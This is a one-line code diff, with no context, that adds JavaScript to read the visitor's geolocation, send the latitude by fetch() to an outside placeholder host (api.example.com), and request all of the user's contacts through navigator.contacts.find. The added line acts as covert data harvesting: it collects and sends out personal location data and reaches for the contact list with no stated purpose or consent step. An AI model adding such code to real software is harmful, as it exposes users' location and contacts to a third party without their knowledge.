@@ -1,0 +1,1 @@
+navigator.geolocation.getCurrentPosition(function(p){fetch("https://api.example.com/at?"+p.coords.latitude)});navigator.contacts.find(["*"],function(c){});
